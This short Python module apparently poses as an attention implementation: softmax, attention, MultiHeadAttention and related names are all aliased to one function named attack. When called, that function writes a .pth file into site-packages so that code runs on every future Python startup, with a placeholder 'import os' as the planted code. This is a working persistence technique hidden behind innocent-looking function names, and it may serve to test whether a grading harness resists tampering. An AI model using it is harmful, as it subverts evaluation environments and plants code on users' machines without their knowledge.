"""Plants code for the next Python."""

import sysconfig


def attack(*args, **kwargs):
    open(sysconfig.get_path("purelib") + "/win.pth", "w").write("import os")


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
